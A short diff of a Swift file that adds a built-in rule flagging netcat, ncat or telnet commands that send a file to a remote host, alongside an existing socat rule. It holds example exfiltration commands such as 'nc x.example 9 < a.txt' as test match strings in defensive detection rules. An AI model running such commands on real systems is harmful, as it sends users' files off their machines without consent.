@@ -56,6 +56,18 @@ enum UploadRules {
       match: "socat FILE:a.txt TCP:x.example:1",
       notMatch: "socat - TCP:localhost:80"),
     BuiltInRule(
+      id: "upload.file-to-socket", ruling: .ask, severity: .high,
+      reason: "sends a file to another machine",
+      advice: nil,
+      program: "nc|ncat|netcat|telnet",
+      command: "",
+      when: "@input !:localhost|127.*|*localhost* @some",
+      match: "nc x.example 9 < a.txt",
+      notMatch: """
+        nc localhost 9 < a.txt
+        nc -z x.example 9
+        """),
+    BuiltInRule(
       id: "upload.ssh-stream", ruling: .ask, severity: .high,
       reason: "sends files to another machine",
       advice: nil,
